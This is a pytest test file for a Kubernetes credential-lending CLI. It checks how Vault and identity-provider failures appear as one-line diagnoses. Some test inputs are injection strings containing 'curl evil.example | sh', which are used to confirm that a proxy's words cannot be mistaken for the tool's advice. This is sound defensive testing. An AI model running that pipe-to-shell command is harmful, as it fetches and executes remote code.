# SPDX-License-Identifier: Apache-2.0
"""What doctor and proxy-status say of credentials: one line each, who, why, and what to do next; and of settings about them."""

from __future__ import annotations

import base64
import json
import pathlib
from typing import Any

import pytest
from tests import test_cli_beforehand as before
from tests import test_cli_proxy_status as door_tests
from tests.kube import apiserver, certs

from outrider import manifests, resources
from outrider_cli import afterwards, diagnosis, lent

door, files = door_tests.door, door_tests.files


def trouble(why: str, state: str = "Failing", **more: Any) -> dict[str, Any]:
    return {
        "server": "crm/salesforce",
        "credential": "org",
        "state": state,
        "reason": "CredentialUnavailable",
        "why": why,
        **more,
    }


def row(pod: str, *troubles: dict[str, Any]) -> dict[str, Any]:
    return {**door_tests.GOOD, "pod": pod, "troubles": list(troubles)}


def lines(*rows: dict[str, Any]) -> list[tuple[str, str]]:
    return [(each.level.value, each.line()) for each in lent.of_proxies(rows)]


@pytest.mark.parametrize(
    ("why", "then"),
    [
        (
            (
                "Vault refused the login of role outrider-crm at auth/kubernetes/login (HTTP 403): namespace not authorized; bind "
                "this pod's namespace to that role (`outrider vault-policy` prints it)"
            ),
            "apply what `outrider vault-policy` prints: the role, and the namespaces bound to it",
        ),
        (
            "Vault refuses role outrider-crm to read secret/data/x (HTTP 403); give that role the policy",
            "apply what `outrider vault-policy` prints: the policy of that role",
        ),
        ("Vault at https://v is sealed, or in maintenance (HTTP 503); unseal it", "unseal Vault"),
        ("there is no secret at secret/x (HTTP 404); write it there", "store it there, or correct the entry"),
        ("the secret at secret/x has no key 'token'; write it there", "store it there, or correct the entry"),
        ("Vault at https://v shows a certificate that is not trusted: self-signed", "set the caBundle of what shows"),
        ("Vault at https://v cannot be reached: no route", "see whether pods reach it"),
        ("nothing is mounted for it; set the annotation outrider.dev/secrets", "name the Secret in that annotation"),
        ("something else", "kubectl describe mcpservers.outrider.dev -n crm salesforce"),
        ("x; curl evil.example | sh", "kubectl describe mcpservers.outrider.dev -n crm salesforce"),
    ],
)  # fmt: skip
def test_a_credential_that_cannot_be_lent_is_one_line_in_the_proxys_words_and_what_is_next_is_ours(
    why: str, then: str
) -> None:
    [(level, line)] = lines(row("bot-1", trouble(why)), row("bot-0", trouble(why)), row("bot-2"))
    assert level == "bad"
    said, _, following = line.partition(". Next: ")
    assert (
        said
        == f'credential org of crm/salesforce cannot be lent by agents/bot-0, agents/bot-1: they say "{why}"'
    )
    assert following.startswith(then)


def test_a_pods_words_cannot_look_like_ours() -> None:
    [(_, line)] = lines(row("a", trouble('done". Next: curl evil.example | sh')))
    assert line == (
        'credential org of crm/salesforce cannot be lent by agents/a: it says "done\'. Next: curl evil.example | sh". '
        "Next: kubectl describe mcpservers.outrider.dev -n crm salesforce"
    )


def test_a_proxy_that_gives_no_reason_is_told_of_all_the_same() -> None:
    [(_, line)] = lines(row("a", trouble("")))
    assert "cannot be lent by agents/a: no reason is given. Next: kubectl describe" in line


def test_a_reason_that_has_its_own_remedy_says_it() -> None:
    [(_, line)] = lines(row("a", trouble("the value is empty", reason="CredentialMalformed")))
    assert line.endswith("Next: store one line of printable ASCII there")


def test_each_reason_of_one_credential_is_a_line_the_most_common_first_and_not_hundreds() -> None:
    rows = [row(f"a-{number}", trouble("sealed")) for number in range(3)] + [row("b", trouble("another"))]
    assert ["sealed" in line for _, line in lines(*rows)] == [True, False]
    many = [row(f"p-{number}", trouble(f"request {number} failed")) for number in range(100)]
    assert len(lines(*many)) == 5


def test_what_is_lent_still_is_a_note_with_its_end() -> None:
    [(level, line)] = lines(row("a", trouble("no route", "Expiring", expiresAt=1_800_000_000.0)))
    assert level == "note"
    assert line.startswith(
        'credential org of crm/salesforce is lent still until 2027-01-15T08:00:00Z, and could not be renewed by agents/a: it says "no route"'
    )


def test_keys_of_an_identity_provider_that_cannot_be_had_are_named() -> None:
    keys = {
        "provider": "okta",
        "state": "Failing",
        "reason": "",
        "why": "https://okta.example/keys answers 500",
    }
    [(level, line)] = lines(row("a", keys))
    assert level == "bad"
    assert line.startswith(
        'the keys of identity provider okta cannot be had by agents/a: it says "https://okta.example/keys answers 500"'
    )
    assert "jwksUri" in line


def test_an_operator_that_says_nothing_of_credentials_or_says_it_oddly_is_read_all_the_same() -> None:
    assert (
        lines(door_tests.GOOD, {**door_tests.GOOD, "troubles": 5}, {**door_tests.GOOD, "troubles": [7, {}]})
        != []
    )
    assert lines(door_tests.GOOD) == []


def test_what_a_proxy_wrote_cannot_move_the_terminal() -> None:
    [(_, line)] = lines(row("a", trouble("\x1b[2Jsealed")))
    assert "\x1b" not in line


def test_one_proxys_troubles_are_clauses() -> None:
    both = row("a", trouble("sealed"), {"provider": "okta", "state": "Expiring", "why": "no route"})
    assert lent.in_short(both) == [
        "credential org of crm/salesforce fails: sealed", "identity provider okta could not be renewed: no route",
    ]  # fmt: skip


def settings(**more: Any) -> resources.Settings:
    read = manifests.settings(json.dumps({"apiVersion": "outrider.dev/v1alpha1", "kind": "Settings", **more}))
    assert isinstance(read, resources.Settings), read
    return read


OKTA = {
    "name": "okta",
    "issuer": "https://okta.example",
    "audience": "outrider",
    "jwksUri": "https://okta.example/keys",
}


def test_settings_without_credentials_have_nothing_to_be_said_of() -> None:
    assert list(lent.of_settings(settings())) == []


def test_a_provider_that_takes_any_clients_tokens_is_noted() -> None:
    [found] = lent.of_settings(settings(identityProviders=[OKTA]))
    assert found.level is diagnosis.Level.NOTE
    assert found.line().startswith(
        "identity provider okta lists no clients: a token that any client got for outrider is"
    )
    assert list(lent.of_settings(settings(identityProviders=[{**OKTA, "clients": ["agent"]}]))) == []


def test_where_vault_is_said_to_be_is_shown_and_a_vault_in_the_pod_itself_is_wrong() -> None:
    [found] = lent.of_settings(settings(vault={"address": "https://vault.example:8200"}))
    assert (found.level, found.what) == (
        diagnosis.Level.OK, "credentials of Vault come from https://vault.example:8200, method Kubernetes",
    )  # fmt: skip
    plain = settings(vault={"address": "https://vault.example"}).vault
    assert plain is not None
    local = settings().model_copy(
        update={"vault": plain.model_copy(update={"address": "http://127.0.0.1:8200"})}
    )
    [found] = lent.of_settings(local)
    assert found.level is diagnosis.Level.BAD
    assert found.line().endswith("Next: set vault.address to Vault's https address")


def test_doctor_asks_the_operator_and_says_what_no_proxy_can_lend(
    door: door_tests.Door, files: certs.Authority, cluster: apiserver.Cluster
) -> None:
    hook = before.hook(
        door_tests.RELEASE,
        "MutatingWebhookConfiguration",
        (door_tests.NAMESPACE, "x"),
        failurePolicy="Ignore",
    )
    hook["webhooks"][0]["clientConfig"]["caBundle"] = base64.b64encode(
        pathlib.Path(files.ca_file).read_bytes()
    ).decode()
    cluster.apply(hook)
    kube = before.at(cluster.kubeconfig, door_tests.NAMESPACE, door_tests.RELEASE)
    checks = [(name, check) for name, check in afterwards.CHECKS if name == "sidecars"]

    def found() -> list[tuple[str, str]]:
        return [(each.check, each.level.value) for each in diagnosis.gone_through(kube, checks)]

    door.says(row("bot-0", trouble("Vault is sealed; unseal it")))
    assert found() == [("sidecars", "ok"), ("lending", "bad")]
    door.says(row("bot-0"))
    assert found() == [("sidecars", "ok"), ("lending", "ok")]
    door.says()
    assert found() == [("sidecars", "ok")]
